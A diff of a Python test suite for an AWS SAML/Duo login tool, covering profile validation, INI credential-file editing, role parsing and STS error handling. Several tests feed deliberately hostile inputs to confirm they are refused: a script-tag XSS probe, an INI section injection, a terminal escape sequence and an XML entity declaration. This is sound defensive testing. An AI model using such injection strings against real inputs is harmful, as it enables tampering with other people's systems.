@@ -1552,373 +1552,12 @@ class HomeTestCase(unittest.TestCase):
 
 
 # ---------------------------------------------------------------------------
-# Errors
-# ---------------------------------------------------------------------------
-
-class ErrorsTest(unittest.TestCase):
-    def test_every_error_has_its_own_documented_exit_code(self):
-        classes = [aws_login.AwsLoginError] + aws_login.AwsLoginError.__subclasses__()
-        codes = [c.exit_code for c in classes]
-        self.assertEqual(len(codes), len(set(codes)))
-        readme = open(os.path.join(HERE, "README.md")).read()
-        for code in codes + [aws_login.EXIT_INTERRUPTED]:
-            self.assertTrue(re.search(r"\|\s*%d\s*\|" % code, readme),
-                            "exit code %d is not in the README's table" % code)
-
-    def test_every_command_is_known_to_the_quick_parser(self):
-        import argparse
-        parser = aws_login.build_parser()
-        choices = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)][0]
-        self.assertEqual(sorted(choices.choices), sorted(aws_login.COMMANDS))
-        for word in aws_login.COMMANDS:
-            only = aws_login.build_parser(word)
-            sub = [a for a in only._actions if isinstance(a, argparse._SubParsersAction)][0]
-            self.assertEqual(list(sub.choices), [word])
-        self.assertEqual(aws_login._command_word(["--profile", "p", "--debug", "login", "-x"]),
-                         "login")
-        self.assertEqual(aws_login._command_word(["--debug", "--profile", "login"]), None)
-
-    def test_import_has_no_side_effects(self):
-        code = ("import sys, os; sys.path.insert(0, %r); before = set(sys.modules); "
-                "import aws_login; heavy = {'ssl', 'urllib.request', 'xml.etree.ElementTree', "
-                "'http.cookiejar', 'argparse'} & set(sys.modules); print(sorted(heavy))"
-                % HERE)
-        out = subprocess.check_output([sys.executable, "-c", code], cwd=tempfile.gettempdir(),
-                                      universal_newlines=True)
-        self.assertEqual(out.strip(), "[]")
-
-
-# ---------------------------------------------------------------------------
-# Settings (profiles)
-# ---------------------------------------------------------------------------
-
-class SettingsTest(HomeTestCase):
-    def test_url_must_be_https_or_loopback_http(self):
-        self.assertEqual(aws_login.check_url("https://idp.example.edu/idp/profile/SAML2/SOAP/ECP"),
-                         "https://idp.example.edu/idp/profile/SAML2/SOAP/ECP")
-        for ok in ("http://127.0.0.1:8080/x", "http://localhost/x", "http://[::1]:80/x",
-                   "http://127.3.4.5/x"):
-            aws_login.check_url(ok)
-        for bad in ("http://idp.example.edu/x", "ftp://idp.example.edu/", "idp.example.edu",
-                    "https://", "http://10.0.0.1/x", "https://idp:notaport/"):
-            self.assertRaises(aws_login.ConfigError, aws_login.check_url, bad)
-
-    def test_factor_must_be_a_duo_factor(self):
-        for f in ("auto", "push", "passcode", "sms", "phone", " Push "):
-            self.assertEqual(aws_login.check_factor(f), f.strip().lower())
-        self.assertRaises(aws_login.ConfigError, aws_login.check_factor, "yubikey")
-
-    def test_role_arn_in_the_three_partitions_with_paths(self):
-        for arn in ("arn:aws:iam::123456789012:role/Admin",
-                    "arn:aws-cn:iam::123456789012:role/team/Admin",
-                    "arn:aws-us-gov:iam::123456789012:role/a/b/ReadOnly"):
-            self.assertEqual(aws_login.check_role_arn(arn), arn)
-        for bad in ("arn:aws:iam::12345678901:role/Admin", "arn:aws:iam::123456789012:user/x",
-                    "arn:aws-iso:iam::123456789012:role/Admin", "Admin",
-                    "arn:aws:iam::123456789012:saml-provider/IdP"):
-            self.assertRaises(aws_login.ConfigError, aws_login.check_role_arn, bad)
-
-    def test_duration_limits(self):
-        self.assertEqual(aws_login.check_duration("3600"), 3600)
-        for bad in ("899", "43201", "one hour", "-5"):
-            self.assertRaises(aws_login.ConfigError, aws_login.check_duration, bad)
-
-    def test_profile_name_from_flag_then_environment(self):
-        self.assertEqual(aws_login.profile_name(), "default")
-        os.environ["AWS_DEFAULT_PROFILE"] = "dp"
-        self.assertEqual(aws_login.profile_name(), "dp")
-        os.environ["AWS_PROFILE"] = "p"
-        self.assertEqual(aws_login.profile_name(), "p")
-        self.assertEqual(aws_login.profile_name("flag"), "flag")
-        self.assertRaises(aws_login.UsageError, aws_login.profile_name, "a]b")
-
-    def test_reads_an_awscli_login_config_unchanged(self):
-        self.write(self.config_file,
-                   "[default]\n"
-                   "ecp_endpoint_url = https://shibboleth.illinois.edu/idp/profile/SAML2/SOAP/ECP\n"
-                   "username = netid\nenable_keyring = True\nfactor = passcode\n"
-                   "role_arn = arn:aws:iam::111111111111:role/Admin\nduration = 7200\n"
-                   "http_header_factor = X-Duo-Factor\nhttp_header_passcode = X-Duo-Code\n"
-                   "verify_ssl_certificate = False\npassword = s3cret\npasscode = 123456\n"
-                   "\n[prod]\necp_endpoint_url = https://idp.example.edu/ecp\n")
-        p = aws_login.read_profile("default")
-        self.assertEqual((p.username, p.enable_keyring, p.factor, p.duration),
-                         ("netid", True, "passcode", 7200))
-        self.assertEqual((p.http_header_factor, p.http_header_passcode),
-                         ("X-Duo-Factor", "X-Duo-Code"))
-        self.assertFalse(p.verify_ssl_certificate)
-        self.assertEqual((p.password, p.passcode), ("s3cret", "123456"))
-        self.assertNotIn("s3cret", repr(p))
-        self.assertEqual(aws_login.read_profile("prod").factor, None)
-
-    def test_unconfigured_and_invalid_profiles_say_what_to_do(self):
-        with self.assertRaisesRegex(aws_login.ConfigError, "configure"):
-            aws_login.read_profile("nope")
-        self.write(self.config_file, "[x]\necp_endpoint_url = http://idp.example.edu/\n")
-        with self.assertRaisesRegex(aws_login.ConfigError, r"plain http.*\[x\]"):
-            aws_login.read_profile("x")
-
-
-# ---------------------------------------------------------------------------
-# INI text editing
+# Harness: the people, roles and helpers most tests share
 # ---------------------------------------------------------------------------
 
 VALUES = [("aws_access_key_id", "ASIANEW"), ("aws_secret_access_key", "sek"),
           ("aws_session_token", "tok")]
 
-
-class IniTest(unittest.TestCase):
-    def test_replace_keeps_every_other_byte(self):
-        text = ("# my keys\n[default]\naws_access_key_id=AKIAOLD\n\n; note\n"
-                "[p]\n aws_access_key_id = old \naws_session_token=x\n# trailing comment\n\n"
-                "[other]\nk   =   v\n")
-        new = aws_login.ini_replace_section(text, "p", VALUES)
-        self.assertEqual(new, "# my keys\n[default]\naws_access_key_id=AKIAOLD\n\n; note\n"
-                         "[p]\naws_access_key_id = ASIANEW\naws_secret_access_key = sek\n"
-                         "aws_session_token = tok\n# trailing comment\n\n[other]\nk   =   v\n")
-
-    def test_append_then_remove_gives_back_the_original(self):
-        for text in ("", "[a]\nx = 1\n", "[a]\nx = 1\n\n\n", "# only a comment\n", "[a]\nx = 1",
-                     "[a]\r\nx = 1\r\n", "[default]\nk = v\n"):
-            added = aws_login.ini_replace_section(text, "p", VALUES)
-            self.assertIn("[p]", added)
-            self.assertEqual(aws_login.ini_remove_section(added, "p"), text, repr(text))
-
-    def test_crlf_files_stay_crlf(self):
-        text = "[a]\r\nx = 1\r\n\r\n[p]\r\nold = 1\r\n"
-        new = aws_login.ini_replace_section(text, "p", VALUES)
-        self.assertNotIn("\n", new.replace("\r\n", ""))
-        self.assertTrue(new.startswith("[a]\r\nx = 1\r\n\r\n[p]\r\naws_access_key_id"))
-
-    def test_missing_final_newline_stays_missing(self):
-        new = aws_login.ini_replace_section("[a]\nx = 1\n\n[p]\nold = 1", "p", VALUES)
-        self.assertTrue(new.endswith("aws_session_token = tok"))
-        self.assertEqual(aws_login.ini_replace_section("[p]\nold = 1\n\n[a]\nx = 1", "p",
-                                                       VALUES)[-9:], "[a]\nx = 1")
-
-    def test_duplicate_sections_collapse_into_one(self):
-        text = "[p]\na = 1\n\n[q]\nb = 2\n\n[p]\nc = 3\n"
-        new = aws_login.ini_replace_section(text, "p", VALUES)
-        self.assertEqual(new.count("[p]"), 1)
-        self.assertIn("[q]\nb = 2\n", new)
-        self.assertEqual(aws_login.ini_remove_section(text, "p"), "[q]\nb = 2\n")
-
-    def test_section_names_match_exactly(self):
-        text = "[profile p]\na = 1\n[pp]\nb = 2\n"
-        self.assertEqual(aws_login.ini_remove_section(text, "p"), text)
-
-    def test_set_options_updates_in_place_and_keeps_comments(self):
-        text = ("[default]\n# my IdP\necp_endpoint_url = https://old/\nfactor: push\n"
-                "username = a\n  continued\nother = kept\n\n[x]\ny = 1\n")
-        new = aws_login.ini_set_options(text, "default", {
-            "ecp_endpoint_url": "https://new/", "username": None, "role_arn": "arn:x"})
-        self.assertEqual(new, "[default]\n# my IdP\necp_endpoint_url = https://new/\n"
-                         "factor: push\nother = kept\nrole_arn = arn:x\n\n[x]\ny = 1\n")
-        self.assertEqual(aws_login.ini_set_options("", "n", {"a": "1", "b": None}),
-                         "[n]\na = 1\n")
-
-    def test_values_with_line_breaks_are_refused(self):
-        self.assertRaises(aws_login.CredentialsFileError, aws_login.ini_replace_section,
-                          "", "p", [("k", "a\n[evil]")])
-
-
-# ---------------------------------------------------------------------------
-# ECP and SAML
-# ---------------------------------------------------------------------------
-
-class AuthnRequestTest(unittest.TestCase):
-    def test_envelope_matches_the_ecp_profile(self):
-        import xml.etree.ElementTree as ET
-        body = aws_login.build_authn_request("https://signin.aws.amazon.com/saml", "_abc",
-                                             "2026-11-27T10:00:00Z")
-        root = ET.fromstring(body)
-        self.assertEqual(root.tag, "{http://schemas.xmlsoap.org/soap/envelope/}Envelope")
-        req = root.find("{http://schemas.xmlsoap.org/soap/envelope/}Body/"
-                        "{urn:oasis:names:tc:SAML:2.0:protocol}AuthnRequest")
-        self.assertEqual(req.get("AssertionConsumerServiceURL"),
-                         "https://signin.aws.amazon.com/saml")
-        self.assertEqual(req.get("ProtocolBinding"),
-                         "urn:oasis:names:tc:SAML:2.0:bindings:PAOS")
-        self.assertEqual((req.get("ID"), req.get("Version"), req.get("IssueInstant")),
-                         ("_abc", "2.0", "2026-11-27T10:00:00Z"))
-        self.assertEqual(req.findtext("{urn:oasis:names:tc:SAML:2.0:assertion}Issuer"),
-                         "urn:amazon:webservices")
-
-    def test_duo_headers_both_spellings_or_the_profiles_own(self):
-        self.assertEqual(aws_login.duo_headers("passcode", "123"), {
-            "X-Shibboleth-Duo-Factor": "passcode", "X-Shiboleth-Duo-Factor": "passcode",
-            "X-Shibboleth-Duo-Passcode": "123", "X-Shiboleth-Duo-Passcode": "123"})
-        self.assertEqual(aws_login.duo_headers("push", None, "X-F", "X-P"), {"X-F": "push"})
-
-    def test_basic_authorization_is_utf8(self):
-        self.assertEqual(aws_login.basic_authorization("jos\u00e9", "p\u00e4ss:word"),
-                         "Basic " + base64.b64encode("jos\u00e9:p\u00e4ss:word".encode()).decode())
-
-
-class RoleTest(unittest.TestCase):
-    ROLE = "arn:aws:iam::123456789012:role/Admin"
-    IDP = "arn:aws:iam::123456789012:saml-provider/IdP"
-
-    def test_either_order_and_spaces(self):
-        for value in (self.ROLE + "," + self.IDP, self.IDP + "," + self.ROLE,
-                      " %s , %s " % (self.ROLE, self.IDP)):
-            role = aws_login.parse_role_value(value)
-            self.assertEqual((role.arn, role.principal_arn), (self.ROLE, self.IDP))
-            self.assertEqual((role.account, role.name, role.partition),
-                             ("123456789012", "Admin", "aws"))
-
-    def test_partitions_and_paths(self):
-        role = aws_login.parse_role_value(
-            "arn:aws-us-gov:iam::210987654321:role/team/Admin,"
-            "arn:aws-us-gov:iam::210987654321:saml-provider/Gov")
-        self.assertEqual((role.partition, role.name), ("aws-us-gov", "team/Admin"))
-        self.assertIsNotNone(aws_login.parse_role_value(
-            "arn:aws-cn:iam::210987654321:saml-provider/C,arn:aws-cn:iam::210987654321:role/R"))
-
-    def test_garbage_is_none(self):
-        for value in ("", "garbage", self.ROLE, self.ROLE + "," + self.ROLE,
-                      self.ROLE + "," + self.IDP + ",extra",
-                      self.ROLE + ",arn:aws-cn:iam::123456789012:saml-provider/IdP",
-                      self.ROLE + ",arn:aws:iam::999999999999:saml-provider/IdP",
-                      "<script>,alert(1)"):
-            self.assertIsNone(aws_login.parse_role_value(value), value)
-
-    def test_menu_is_grouped_by_account_in_first_seen_order(self):
-        roles = [aws_login.Role("arn:aws:iam::978517677611:role/Admin", "p1"),
-                 aws_login.Role("arn:aws:iam::520135271718:role/ReadOnlyUser", "p2"),
-                 aws_login.Role("arn:aws:iam::978517677611:role/team/Dev", "p1"),
-                 aws_login.Role("arn:aws:iam::520135271718:role/S3Admin", "p2")]
-        lines, ordered = aws_login.role_menu(roles)
-        self.assertEqual(lines, [
-            "Please choose the role you would like to assume:",
-            "    Account: 978517677611",
-            "        [ 0 ]: Admin",
-            "        [ 1 ]: team/Dev",
-            "    Account: 520135271718",
-            "        [ 2 ]: ReadOnlyUser",
-            "        [ 3 ]: S3Admin"])
-        self.assertEqual([r.name for r in ordered], ["Admin", "team/Dev", "ReadOnlyUser",
-                                                      "S3Admin"])
-
-    def test_choice_by_arn_single_or_none(self):
-        one = [aws_login.Role(self.ROLE, self.IDP)]
-        self.assertEqual(aws_login.choose_role(one), one[0])
-        self.assertEqual(aws_login.choose_role(one, self.ROLE), one[0])
-        with self.assertRaisesRegex(aws_login.RoleError, "does not offer"):
-            aws_login.choose_role(one, "arn:aws:iam::123456789012:role/Other")
-        with self.assertRaisesRegex(aws_login.RoleError, "no AWS roles"):
-            aws_login.choose_role([])
-
-
-# ---------------------------------------------------------------------------
-# STS
-# ---------------------------------------------------------------------------
-
-class StsPureTest(unittest.TestCase):
-    def test_endpoints_by_partition_region_and_environment(self):
-        e = aws_login.sts_endpoint
-        self.assertEqual(e("aws", None, {}), "https://sts.amazonaws.com/")
-        self.assertEqual(e("aws", "eu-west-1", {}), "https://sts.eu-west-1.amazonaws.com/")
-        self.assertEqual(e("aws-cn", None, {}), "https://sts.cn-north-1.amazonaws.com.cn/")
-        self.assertEqual(e("aws-cn", "cn-northwest-1", {}),
-                         "https://sts.cn-northwest-1.amazonaws.com.cn/")
-        self.assertEqual(e("aws-cn", "us-east-1", {}), "https://sts.cn-north-1.amazonaws.com.cn/")
-        self.assertEqual(e("aws-us-gov", None, {}), "https://sts.us-gov-west-1.amazonaws.com/")
-        self.assertEqual(e("aws-us-gov", "us-gov-east-1", {}),
-                         "https://sts.us-gov-east-1.amazonaws.com/")
-        self.assertEqual(e("aws", "cn-north-1", {}), "https://sts.amazonaws.com/")
-        self.assertEqual(e("aws", None, {"AWS_ENDPOINT_URL": "http://127.0.0.1:5000"}),
-                         "http://127.0.0.1:5000")
-        self.assertEqual(e("aws", None, {"AWS_ENDPOINT_URL": "http://127.0.0.1:1",
-                                         "AWS_ENDPOINT_URL_STS": "https://sts.local:2"}),
-                         "https://sts.local:2")
-        self.assertRaises(aws_login.ConfigError, e, "aws", None,
-                          {"AWS_ENDPOINT_URL_STS": "http://sts.example.com"})
-
-    def test_timestamps_from_real_sts_and_moto(self):
-        import datetime
-        utc = datetime.timezone.utc
-        p = aws_login.parse_timestamp
-        self.assertEqual(p("2026-11-27T10:33:19Z"), datetime.datetime(2026, 11, 27, 10, 33, 19,
-                                                                      tzinfo=utc))
-        self.assertEqual(p("2026-11-27T10:33:19.392466Z"),
-                         datetime.datetime(2026, 11, 27, 10, 33, 19, 392466, tzinfo=utc))
-        self.assertEqual(p("2026-11-27T11:33:19+01:00"), p("2026-11-27T10:33:19Z"))
-        self.assertRaises(ValueError, p, "2026-11-27 10:33:19")
-
-    def test_the_error_element_is_found_wherever_aws_puts_it(self):
-        error = (b"<Error><Type>Sender</Type><Code>SignatureDoesNotMatch</Code><Message>The "
-                 b"request signature we calculated does not match</Message></Error>")
-        ns = b' xmlns="https://sts.amazonaws.com/doc/2011-06-15/"'
-        for body in (b"<ErrorResponse" + ns + b">" + error + b"</ErrorResponse>",
-                     b"<ErrorResponse>" + error + b"</ErrorResponse>",
-                     b"<ErrorResponse" + ns + b"><Errors>" + error + b"</Errors></ErrorResponse>",
-                     b"<Response><Errors>" + error + b"</Errors><RequestID>r</RequestID>"
-                     b"</Response>"):
-            for action in ("AssumeRoleWithSAML", "GetCallerIdentity"):
-                with self.assertRaises(aws_login.STSError) as cm:
-                    aws_login.parse_sts_answer(403, body, action)
-                self.assertEqual(cm.exception.code, "SignatureDoesNotMatch", body)
-                self.assertIn("STS refused %s: SignatureDoesNotMatch: The request signature"
-                              % action, str(cm.exception))
-
-    def test_x_amzn_errortype_is_the_fallback_code(self):
-        headers = {"X-Amzn-ErrorType": "ExpiredTokenException:http://internal.amazon.com/"}
-        for body in (b"", b"<ErrorResponse><Unknown/></ErrorResponse>"):
-            with self.assertRaises(aws_login.STSError) as cm:
-                aws_login.parse_sts_answer(400, body, "GetCallerIdentity", headers)
-            self.assertEqual(cm.exception.code, "ExpiredTokenException")
-        with self.assertRaises(aws_login.STSError) as cm:
-            aws_login.parse_sts_answer(400, b"<ErrorResponse/>", "GetCallerIdentity")
-        self.assertEqual(cm.exception.code, "HTTP 400")
-
-    def test_error_shapes_keep_code_and_message(self):
-        body = (b'<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error>'
-                b'<Type>Sender</Type><Code>ValidationError</Code><Message>The requested '
-                b'DurationSeconds exceeds the MaxSessionDuration set for this role.</Message>'
-                b'</Error><RequestId>r</RequestId></ErrorResponse>')
-        with self.assertRaises(aws_login.STSError) as cm:
-            aws_login.parse_sts_answer(400, body)
-        self.assertEqual(cm.exception.code, "ValidationError")
-        self.assertIn("MaxSessionDuration", str(cm.exception))
-        self.assertIn("lower `duration`", str(cm.exception))
-        bare = b"<ErrorResponse><Error><Code>Throttling</Code><Message>Rate exceeded</Message></Error></ErrorResponse>"
-        with self.assertRaises(aws_login.STSError) as cm:
-            aws_login.parse_sts_answer(400, bare)
-        self.assertEqual(cm.exception.code, "Throttling")
-        for status, junk in ((403, b"Forbidden"), (200, b""), (200, b"<a/>"),
-                             (200, b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')):
-            self.assertRaises(aws_login.STSError, aws_login.parse_sts_answer, status, junk)
-
-    def test_what_atheris_and_reading_found(self):
-        p = aws_login.parse_timestamp
-        for text in ("9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00"):
-            self.assertRaises(ValueError, p, text)              # not OverflowError
-        multibyte = b'<?xml version="1.0" encoding="UTF-7"?><a/>'
-        self.assertRaises(aws_login.IdPError, aws_login.parse_ecp_answer, aws_login.HttpAnswer(
-            200, {"Content-Type": "text/xml"}, multibyte, "https://idp/ecp"), "https://x/saml")
-        self.assertRaises(aws_login.STSError, aws_login.parse_sts_answer, 200, multibyte)
-        with self.assertRaises(aws_login.STSError) as cm:
-            aws_login.parse_sts_answer(503, b"<!DOCTYPE html><html>down</html>")
-        self.assertTrue(cm.exception.transient)
-        envelope = build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A],
-                                          session_duration=3600)[0]
-        odd = envelope.replace(b">3600<", b">\xc2\xb2<")          # a superscript two
-        saml = aws_login.parse_ecp_answer(aws_login.HttpAnswer(
-            200, {"Content-Type": "text/xml"}, odd, "https://idp/ecp"), AWS_ACS_URLS[0])
-        self.assertIsNone(saml.session_duration)
-
-    def test_credentials_repr_hides_secrets(self):
-        import datetime
-        c = aws_login.Credentials("ASIAX", "secret-key", "session-token",
-                                  datetime.datetime.now(datetime.timezone.utc))
-        self.assertNotIn("secret-key", repr(c))
-        self.assertNotIn("session-token", repr(c))
-
-
-# ---------------------------------------------------------------------------
-# Login against the fake IdP and STS (the real file, on a pseudo-terminal)
-# ---------------------------------------------------------------------------
 
 ACCOUNT_A, ACCOUNT_B = "123456789012", "210987654321"
 ADMIN = "arn:aws:iam::%s:role/Admin" % ACCOUNT_A
@@ -2041,6 +1680,283 @@ class LoginTestCase(HomeTestCase):
                          if os.path.isdir(os.path.join(self.home, ".aws-login", "cookies"))
                          else [], [])
 
+
+def _fake_credentials(n=0):
+    return aws_login.Credentials("ASIA%016d" % n, "secret%d" % n, "token%d" % n,
+                                 aws_login.parse_timestamp("2030-01-01T00:00:00Z"))
+
+
+def _process_state(pid):
+    """'R', 'S', 'Z' ... from /proc, or None once the process is gone."""
+    try:
+        with open("/proc/%d/stat" % pid) as f:
+            return f.read().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return None
+
+
+def _holds_file(pid, path):
+    """Whether process ``pid`` has ``path`` open (a refresher holds its pid file)."""
+    try:
+        target = os.stat(path)
+        fds = os.listdir("/proc/%d/fd" % pid)
+    except OSError:
+        return False
+    for fd in fds:
+        try:
+            st = os.stat("/proc/%d/fd/%s" % (pid, fd))
+        except OSError:
+            continue
+        if (st.st_dev, st.st_ino) == (target.st_dev, target.st_ino):
+            return True
+    return False
+
+
+def _wait_for(predicate, timeout, step=0.1):
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        if predicate():
+            return True
+        time.sleep(step)
+    return predicate()
+
+
+def _start_ticks(pid):
+    """Field 22 of /proc/PID/stat: when the process started, in ticks since boot."""
+    with open("/proc/%d/stat" % pid, "rb") as f:
+        return f.read().rsplit(b")", 1)[1].split()[19].decode()
+
+
+def _boot_id():
+    with open("/proc/sys/kernel/random/boot_id") as f:
+        return f.read().strip()
+
+
+# ---------------------------------------------------------------------------
+# Errors
+# ---------------------------------------------------------------------------
+
+class ErrorsTest(unittest.TestCase):
+    def test_every_error_has_its_own_documented_exit_code(self):
+        classes = [aws_login.AwsLoginError] + aws_login.AwsLoginError.__subclasses__()
+        codes = [c.exit_code for c in classes]
+        self.assertEqual(len(codes), len(set(codes)))
+        readme = open(os.path.join(HERE, "README.md")).read()
+        for code in codes + [aws_login.EXIT_INTERRUPTED]:
+            self.assertTrue(re.search(r"\|\s*%d\s*\|" % code, readme),
+                            "exit code %d is not in the README's table" % code)
+
+    def test_every_command_is_known_to_the_quick_parser(self):
+        import argparse
+        parser = aws_login.build_parser()
+        choices = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)][0]
+        self.assertEqual(sorted(choices.choices), sorted(aws_login.COMMANDS))
+        for word in aws_login.COMMANDS:
+            only = aws_login.build_parser(word)
+            sub = [a for a in only._actions if isinstance(a, argparse._SubParsersAction)][0]
+            self.assertEqual(list(sub.choices), [word])
+        self.assertEqual(aws_login._command_word(["--profile", "p", "--debug", "login", "-x"]),
+                         "login")
+        self.assertEqual(aws_login._command_word(["--debug", "--profile", "login"]), None)
+
+    def test_import_has_no_side_effects(self):
+        code = ("import sys, os; sys.path.insert(0, %r); before = set(sys.modules); "
+                "import aws_login; heavy = {'ssl', 'urllib.request', 'xml.etree.ElementTree', "
+                "'http.cookiejar', 'argparse'} & set(sys.modules); print(sorted(heavy))"
+                % HERE)
+        out = subprocess.check_output([sys.executable, "-c", code], cwd=tempfile.gettempdir(),
+                                      universal_newlines=True)
+        self.assertEqual(out.strip(), "[]")
+
+
+class ErrorKindTest(LoginTestCase):
+    """Decisions read an error's kind, set where it is raised, never its text."""
+    SLOW = True         # waits on real time: the runner starts it first
+
+    def session(self, url=None):
+        profile = aws_login.Profile("default", {"ecp_endpoint_url": url or self.idp.url,
+                                                "factor": "push"})
+        return aws_login.IdPSession(profile, "alice", aws_login.Terminal(None),
+                                    aws_login.make_ssl_context(),
+                                    aws_login.PARTITIONS["aws"][0])
+
+    def short_read_timeout(self):
+        real = aws_login.http_request
+        aws_login.http_request = lambda *a, **kw: real(*a, **dict(kw, read_timeout=0.5))
+        self.addCleanup(setattr, aws_login, "http_request", real)
+
+    def silent_server(self):
+        server = socket.socket()
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+        self.addCleanup(server.close)
+        return "http://127.0.0.1:%d/ecp" % server.getsockname()[1]
+
+    def test_every_refusal_style_is_kind_refused(self):
+        for style in ("responder", "401", "fault", "html"):
+            self.idp.failure_style = style
+            with self.assertRaises(aws_login.AuthenticationError) as caught:
+                self.session().authenticate("wrong", "push", None)
+            self.assertEqual(caught.exception.kind, "refused", style)
+
+    def test_an_idp_that_never_answers_is_kind_timeout(self):
+        self.short_read_timeout()
+        with self.assertRaises(aws_login.AuthenticationError) as caught:
+            self.session(self.silent_server()).authenticate(PASSWORD, "push", None)
+        self.assertEqual(caught.exception.kind, "timeout")
+        self.assertIn("Duo push was not approved", str(caught.exception))
+
+    def test_network_errors_carry_their_kind(self):
+        sock = socket.socket()
+        sock.bind(("127.0.0.1", 0))
+        closed = "http://127.0.0.1:%d/" % sock.getsockname()[1]
+        sock.close()
+        for url, context, kind in (
+                (closed, None, "refused"),
+                (self.silent_server(), None, "timeout"),
+                (self.idp.url, ssl.create_default_context(), "untrusted")):
+            with self.assertRaises(aws_login.NetworkError) as caught:
+                aws_login.http_request(url, b"x", ssl_context=context, read_timeout=0.5)
+            self.assertEqual(caught.exception.kind, kind, caught.exception)
+        self.assertEqual(aws_login._network_error_kind(socket.gaierror(-2, "unknown")), "dns")
+        # A connection the IdP refuses is not a login it refused: no AuthenticationError.
+        with self.assertRaises(aws_login.NetworkError):
+            self.session(closed).authenticate(PASSWORD, "push", None)
+
+    def test_sts_retries_only_a_refused_connection(self):
+        sock = socket.socket()
+        sock.bind(("127.0.0.1", 0))
+        port = sock.getsockname()[1]
+        sock.close()
+        import contextlib
+        self.short_read_timeout()
+        self.addCleanup(setattr, aws_login, "_debug_enabled", aws_login._debug_enabled)
+        aws_login._debug_enabled = True
+        for endpoint, retries in (("http://127.0.0.1:%d/" % port, aws_login.STS_ATTEMPTS - 1),
+                                  (self.silent_server(), 0)):   # it may have reached STS
+            said = io.StringIO()
+            with contextlib.redirect_stderr(said):
+                with self.assertRaises(aws_login.NetworkError):
+                    aws_login.assume_role_with_saml(aws_login.Role(ADMIN, PROVIDER_A), b"<x/>",
+                                                    endpoint=endpoint)
+            self.assertEqual(said.getvalue().count("; retrying in "), retries, said.getvalue())
+
+
+# ---------------------------------------------------------------------------
+# Settings (profiles)
+# ---------------------------------------------------------------------------
+
+class SettingsTest(HomeTestCase):
+    def test_url_must_be_https_or_loopback_http(self):
+        self.assertEqual(aws_login.check_url("https://idp.example.edu/idp/profile/SAML2/SOAP/ECP"),
+                         "https://idp.example.edu/idp/profile/SAML2/SOAP/ECP")
+        for ok in ("http://127.0.0.1:8080/x", "http://localhost/x", "http://[::1]:80/x",
+                   "http://127.3.4.5/x"):
+            aws_login.check_url(ok)
+        for bad in ("http://idp.example.edu/x", "ftp://idp.example.edu/", "idp.example.edu",
+                    "https://", "http://10.0.0.1/x", "https://idp:notaport/"):
+            self.assertRaises(aws_login.ConfigError, aws_login.check_url, bad)
+
+    def test_factor_must_be_a_duo_factor(self):
+        for f in ("auto", "push", "passcode", "sms", "phone", " Push "):
+            self.assertEqual(aws_login.check_factor(f), f.strip().lower())
+        self.assertRaises(aws_login.ConfigError, aws_login.check_factor, "yubikey")
+
+    def test_role_arn_in_the_three_partitions_with_paths(self):
+        for arn in ("arn:aws:iam::123456789012:role/Admin",
+                    "arn:aws-cn:iam::123456789012:role/team/Admin",
+                    "arn:aws-us-gov:iam::123456789012:role/a/b/ReadOnly"):
+            self.assertEqual(aws_login.check_role_arn(arn), arn)
+        for bad in ("arn:aws:iam::12345678901:role/Admin", "arn:aws:iam::123456789012:user/x",
+                    "arn:aws-iso:iam::123456789012:role/Admin", "Admin",
+                    "arn:aws:iam::123456789012:saml-provider/IdP"):
+            self.assertRaises(aws_login.ConfigError, aws_login.check_role_arn, bad)
+
+    def test_duration_limits(self):
+        self.assertEqual(aws_login.check_duration("3600"), 3600)
+        for bad in ("899", "43201", "one hour", "-5"):
+            self.assertRaises(aws_login.ConfigError, aws_login.check_duration, bad)
+
+    def test_profile_name_from_flag_then_environment(self):
+        self.assertEqual(aws_login.profile_name(), "default")
+        os.environ["AWS_DEFAULT_PROFILE"] = "dp"
+        self.assertEqual(aws_login.profile_name(), "dp")
+        os.environ["AWS_PROFILE"] = "p"
+        self.assertEqual(aws_login.profile_name(), "p")
+        self.assertEqual(aws_login.profile_name("flag"), "flag")
+        self.assertRaises(aws_login.UsageError, aws_login.profile_name, "a]b")
+
+    def test_reads_an_awscli_login_config_unchanged(self):
+        self.write(self.config_file,
+                   "[default]\n"
+                   "ecp_endpoint_url = https://shibboleth.illinois.edu/idp/profile/SAML2/SOAP/ECP\n"
+                   "username = netid\nenable_keyring = True\nfactor = passcode\n"
+                   "role_arn = arn:aws:iam::111111111111:role/Admin\nduration = 7200\n"
+                   "http_header_factor = X-Duo-Factor\nhttp_header_passcode = X-Duo-Code\n"
+                   "verify_ssl_certificate = False\npassword = s3cret\npasscode = 123456\n"
+                   "\n[prod]\necp_endpoint_url = https://idp.example.edu/ecp\n")
+        p = aws_login.read_profile("default")
+        self.assertEqual((p.username, p.enable_keyring, p.factor, p.duration),
+                         ("netid", True, "passcode", 7200))
+        self.assertEqual((p.http_header_factor, p.http_header_passcode),
+                         ("X-Duo-Factor", "X-Duo-Code"))
+        self.assertFalse(p.verify_ssl_certificate)
+        self.assertEqual((p.password, p.passcode), ("s3cret", "123456"))
+        self.assertNotIn("s3cret", repr(p))
+        self.assertEqual(aws_login.read_profile("prod").factor, None)
+
+    def test_unconfigured_and_invalid_profiles_say_what_to_do(self):
+        with self.assertRaisesRegex(aws_login.ConfigError, "configure"):
+            aws_login.read_profile("nope")
+        self.write(self.config_file, "[x]\necp_endpoint_url = http://idp.example.edu/\n")
+        with self.assertRaisesRegex(aws_login.ConfigError, r"plain http.*\[x\]"):
+            aws_login.read_profile("x")
+
+    def test_urls_carry_no_userinfo(self):
+        self.assertRaises(aws_login.ConfigError, aws_login.check_url,
+                          "https://alice:secret@idp.example.edu/ecp")
+
+    def test_profile_names_with_line_breaks_or_controls_are_refused(self):
+        for bad in ("a\x0cb", "a\u2028b", "a\x85b", "a\x1cb", "a\x1b[2Jb", "a\tb", "a]b"):
+            with self.assertRaises(aws_login.UsageError, msg=repr(bad)):
+                aws_login.profile_name(bad)
+        self.assertEqual(aws_login.profile_name("caf\u00e9-1"), "caf\u00e9-1")
+
+    def test_the_real_file_refuses_such_a_profile_name(self):
+        home = tempfile.mkdtemp(prefix="aws-login-test-")
